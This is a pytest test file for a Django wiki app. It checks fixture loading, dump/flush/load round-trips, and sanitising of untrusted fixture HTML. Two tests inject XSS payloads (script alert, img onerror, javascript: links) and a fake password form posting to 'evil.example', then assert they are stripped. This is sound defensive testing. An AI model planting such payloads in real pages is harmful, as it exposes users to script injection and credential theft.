"""loaddata on an empty database gives the whole page; dump, flush and load give it again."""

import json
from io import StringIO

import pytest
from django.conf import settings
from django.core.management import call_command

from articles.models import Article

pytestmark = pytest.mark.django_db(transaction=True)

SEED_URL = "/wiki/西伯利亞滯留者"


def page(client):
    from django.core.cache import cache

    cache.clear()
    response = client.get(SEED_URL)
    assert response.status_code == 200
    return response.content.decode()


def test_loaddata_gives_the_full_page(client):
    call_command("loaddata", "siberia", verbosity=0)
    body = page(client)
    assert '<sup class="reference" id="cite_ref-4"><a href="#cite_note-4">[4]</a></sup>' in body
    assert '<li id="cite_note-4">' in body
    assert body.count('<nav class="catlinks"') == 1
    assert Article.objects.get().related_entries.count() == 5
    assert not Article.objects.derived_before().exists()


def test_dump_flush_load_round_trip(client, tmp_path):
    call_command("loaddata", "siberia", verbosity=0)
    before = page(client)
    dump = tmp_path / "dump.json"
    call_command(
        "dumpdata",
        "articles",
        "references",
        natural_foreign=True,
        natural_primary=True,
        output=str(dump),
        verbosity=0,
    )
    call_command("flush", interactive=False, verbosity=0)
    assert not Article.objects.exists()
    call_command("loaddata", str(dump), verbosity=0)
    assert page(client) == before


def test_fixture_html_is_never_trusted(client, tmp_path):
    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
    for row in data:
        if row["model"] == "articles.section":
            row["fields"]["html"] = "<script>alert(1)</script>"
            row["fields"]["source"] += '\n\n<img src=x onerror="alert(1)"><a href="javascript:alert(1)">x</a>'
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
    body = page(client)
    assert "<script>alert" not in body and "onerror" not in body and "javascript:" not in body


def test_fixture_html_never_stays_even_when_an_article_cannot_be_rendered(client, tmp_path, monkeypatch):
    from articles.preparing import DERIVATION_VERSION
    from references.models import Reference

    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
    for row in data:
        if row["model"] == "references.reference":
            row["fields"]["html"] = '<form action="//evil.example"><input name="password"></form>'
        if row["model"] == "articles.article":
            row["fields"]["derived_with"] = DERIVATION_VERSION  # a claim render_articles must not believe
    hostile = tmp_path / "hostile.json"
    hostile.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")

    def fail(self):
        raise RuntimeError("cannot render")

    monkeypatch.setattr(Article, "render", fail)
    call_command("loaddata", str(hostile), verbosity=0, stdout=StringIO())
    assert set(Reference.objects.values_list("html", flat=True)) == {""}
    assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]


def test_sections_loaded_alone_leave_their_article_to_render_articles_when_its_render_fails(tmp_path, monkeypatch):
    call_command("loaddata", "siberia", verbosity=0)
    assert not Article.objects.derived_before().exists()
    data = json.loads(settings.SEED_FIXTURE.read_text(encoding="utf-8"))
    sections = tmp_path / "sections.json"
    sections.write_text(json.dumps([row for row in data if row["model"] == "articles.section"]), encoding="utf-8")

    def fail(self):
        raise RuntimeError("cannot render")

    monkeypatch.setattr(Article, "render", fail)
    call_command("loaddata", str(sections), verbosity=0, stdout=StringIO())
    assert list(Article.objects.derived_before().values_list("title", flat=True)) == ["西伯利亞滯留者"]
